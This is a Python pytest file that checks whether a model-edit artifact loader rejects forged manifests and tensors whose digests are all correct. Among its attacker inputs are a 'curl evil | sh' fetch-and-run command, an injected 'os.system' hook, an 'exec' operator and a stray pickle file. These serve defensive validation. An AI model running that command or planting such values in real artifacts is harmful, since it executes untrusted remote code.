"""Artifacts that an attacker wrote who knows the format: every digest is right, the content not."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st
from replaced import accepted
from small_artifacts import (
    CONFIG,
    SEAL,
    TENSORS,
    WEIGHT,
    Change,
    Files,
    forged,
    identity,
    in_memory,
    reseal,
)
from torch import Tensor

from salve_plugin.errors import ArtifactError
from salve_plugin.share.artifact import EditArtifact
from salve_plugin.store.tensors import decode_tensors


def set_in(*path: Any) -> Callable[[dict[str, Any]], None]:
    def change(config: dict[str, Any]) -> None:
        place: Any = config
        for key in path[:-2]:
            place = place[key]
        place[path[-2]] = path[-1]

    return change


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (set_in("format_version", "3.0"), "upgrade"),
        (set_in("format_version", "0.9"), "never was released"),
        (set_in("format_version", "1.0"), r"format 1\.0, .* reads 2\.x only"),
        (set_in("format_version", 1.0), "expected for example"),
        (set_in("requires", ["gate", "teleport"]), r"requires \['teleport'\]"),
        (set_in("edit", "operator", "form", "exec"), "Invalid enum value 'exec'"),
        (set_in("edit", "operator", "strength", 4.0), "the artifact is"),
        (set_in("digest", "0" * 64), "the artifact is"),
        (
            set_in("files", "extra.pkl", {"sha256": "0" * 64, "size": 3}),
            "at `key` in",
        ),
        (set_in("files", "picture_b.png", {"sha256": "0" * 64, "size": 3}), "cannot read"),
        (set_in("tensors", "pristine.x", {"dtype": "F32", "shape": [1]}), "the artifact is"),
        (set_in("edit", "hook", "os.system"), "unknown fields"),
    ],
)
def test_a_manifest_with_a_right_seal_is_still_checked(
    saved: Path, change: Callable[[dict[str, Any]], None], message: str
) -> None:
    path = saved / "edit_config.json"
    config = json.loads(path.read_text())
    change(config)
    path.write_bytes(reseal(config))
    with pytest.raises(ArtifactError, match=message):
        EditArtifact.from_pretrained(saved)


def put(name: str, tensor: Tensor) -> Change:
    def change(config: dict[str, Any], tensors: dict[str, Tensor]) -> None:
        names = {torch.float32: "F32", torch.float64: "F64", torch.int64: "I64"}
        tensors[name] = tensor
        config["tensors"][name] = {"dtype": names[tensor.dtype], "shape": list(tensor.shape)}

    return change


def drop(name: str) -> Change:
    def change(config: dict[str, Any], tensors: dict[str, Tensor]) -> None:
        del tensors[name]
        del config["tensors"][name]

    return change


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (put("edit.directions", torch.tensor([[1.0, 1, 0, 0]])), "norm"),
        (
            put("edit.directions", torch.tensor([[torch.nan, 1, 0, 0]])),
            "holds NaN or infinite values",
        ),
        (put("edit.directions", torch.tensor([[1, 0, 0, 0]])), "floating"),
        (put("edit.directions", torch.eye(1, 5)), "5 features .* site of 4"),
        (put("edit.directions", torch.eye(4)[0]), "expected a floating tensor with 2 axes"),
        (put("pristine.fc.weight", WEIGHT), "needs"),
        (put("pristine.fc.weight", WEIGHT[1:] / 0), "infinite"),
        (put("pristine.other", WEIGHT[1:]), "touches"),
        (put("dictionary.atoms", torch.eye(4)), "not embedded"),
        (put("alpha_crit.values", torch.full((4,), torch.nan).double()), "NaN"),
        (put("alpha_crit.values", torch.full((4,), -1.0).double()), "negative"),
        (put("alpha_crit.values", torch.ones(4)), "expected torch.float64"),
        (put("alpha_crit.values", torch.ones(3).double()), r"shape \[3\]"),
        (
            put("alpha_crit.values", torch.tensor([1, 1, 0, 1.0]).double()),
            r"\['alpha_crit'\] do not follow",
        ),
        (put("alpha_crit.more", torch.ones(4).double()), "critical strengths are"),
        (drop("alpha_crit.values"), "critical strengths are"),
        (drop("pristine.fc.weight"), r"\['requires'\] do not follow"),
        (lambda config, _: config.update(alpha_crit=None), "have no summary"),
        (lambda config, _: config.update(requires=["gate"]), r"\['requires'\] do not follow"),
        (lambda config, _: config["edit"].update(rows=[2, 1]), "do not follow"),
        (lambda config, _: config["edit"].update(rows=[1, 7]), "from 0 to 2"),
        (
            lambda config, _: (
                config.update(assessment=None),
                config["edit"]["operator"].update(strength=2),
            ),
            "do not follow",
        ),
        (lambda config, _: config["edit"]["operator"].update(strength=2.0), "is of edit c26d9d8b"),
        (lambda config, _: config["assessment"]["effect"].update(target=0.5), "as the target"),
        (lambda config, _: config["assessment"].update(images=5), "images are not the 5"),
        (lambda config, _: config["assessment"].update(accuracy=0.5), "that of all images 0.5"),
        (
            lambda config, _: config["assessment"]["effect"].update(worst=-0.25),
            "says at worst -0.25",
        ),
        (lambda config, _: config["assessment"]["classes"][0].update(name="b"), "among the labels"),
        (lambda config, _: config["assessment"]["classes"][1].update(label=3), "class 3, where"),
        (lambda config, _: config["assessment"]["classes"][1].update(label=1), "each once"),
        (
            lambda config, _: config["assessment"]["evidence"].update(command="curl evil | sh"),
            "Invalid enum value",
        ),
        (
            lambda config, _: config["assessment"]["budget"]["parameters"][0].update(path="fc.x"),
            "the edit touches",
        ),
        (lambda config, _: config["evaluation"]["after"].update(more=1), "measures after"),
    ],
)
def test_a_forgery_with_every_digest_right_is_refused_for_its_content(
    shared_files: Files, change: Change, message: str
) -> None:
    with pytest.raises(ArtifactError, match=message):
        in_memory(forged(shared_files, change))


def test_a_forgery_that_changes_nothing_is_accepted(
    shared_files: Files, tiny: EditArtifact
) -> None:
    assert in_memory(forged(shared_files, lambda *_: None)) == tiny.digest


@settings(deadline=None, max_examples=150, derandomize=True)
@given(data=st.data())
def test_a_manifest_with_any_value_replaced_and_sealed_anew_raises_only_our_errors(
    data: st.DataObject, shared_files: Files
) -> None:
    """What an attacker can do who knows the format: every digest that he controls is right."""

    def seal(config: dict[str, Any]) -> bytes:
        config["digest"] = identity(config, decode_tensors(shared_files[TENSORS]))
        return reseal(config)

    place = accepted(
        data,
        shared_files[CONFIG],
        seal,
        lambda manifest: in_memory({**shared_files, CONFIG: manifest}),
    )
    # What passes differs in a field that is free: a name, a number in a table.
    assert place is None or place[0] in (
        "assessment", "base", "data", "dictionary", "edit", "evaluation", "labels", "producer",
        "format_version", "alpha_crit", "digest", SEAL,
    )  # fmt: skip
